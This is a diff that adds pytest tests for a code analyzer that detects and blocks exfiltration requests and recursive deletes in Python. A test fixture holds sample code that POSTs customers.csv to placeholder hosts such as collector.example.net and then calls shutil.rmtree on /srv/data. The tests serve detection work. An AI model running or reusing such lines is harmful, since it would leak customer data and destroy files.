@@ -456,3 +456,37 @@ def test_a_send_says_whether_anything_but_constants_and_its_credentials_travels(
         "body-to-its-service", "query-to-its-service", "other-data-with-it"])
 def test_a_credential_authenticates_only_in_its_services_authentication(line: str, action: str) -> None:
     assert decisions(SENDS + line + "\n") == [("py.exfil-request", action)]
+
+
+ODD_URL_FILE = ("import requests, shutil\n"
+                "requests.post('{url}', data=open('customers.csv').read())\n"
+                "shutil.rmtree('/srv/data')\n")
+
+
+@pytest.mark.parametrize("url, host", [
+    ("https://host[.]example.com/in", "https://host[.]example.com"),
+    ("https://[not-an-ip]:443/in", "https://[not-an-ip]:443"),
+    ("https://[2001:db8::1]:8443/in", "https://[2001:db8::1]:8443"),
+    ("https://example.com:99999999999/in", None),
+], ids=["defanged", "bracketed-name", "ipv6", "huge-port"])
+def test_a_url_no_client_reads_is_a_host_that_is_never_allowed(url: str, host: str | None) -> None:
+    analysis = run(ODD_URL_FILE.format(url=url))
+    assert analysis.errors == []
+    assert [(op.rule, op.location.line, op.detail("host")) for op in analysis.operations] == [
+        ("py.exfil-request", 2, host), ("py.fs-delete-tree", 3, None)]
+    assert decisions(ODD_URL_FILE.format(url=url)) == [("py.exfil-request", "block"), ("py.fs-delete-tree", "block")]
+
+
+def test_an_expression_that_cannot_be_analysed_is_an_error_and_the_rest_is_still_read(monkeypatch) -> None:
+    """Whatever one expression raises, it is reported at its line and every other finding stays."""
+    from analyzer.frontends.python import calls
+
+    def broken(url: str) -> str | None:
+        raise ValueError("cannot read " + url)
+
+    monkeypatch.setattr(calls, "_host_of", broken)
+    text = ODD_URL_FILE.format(url="https://collector.example.net/in") + "x = requests.post('https://a.example')\n"
+    analysis = run(text, path="job.py")
+    assert [(op.rule, op.location.line) for op in analysis.operations] == [("py.fs-delete-tree", 3)]
+    assert [(e.path, e.line) for e in analysis.errors] == [("job.py", 2), ("job.py", 4)]
+    assert all("ValueError: cannot read" in e.message and "internal error" not in e.message for e in analysis.errors)
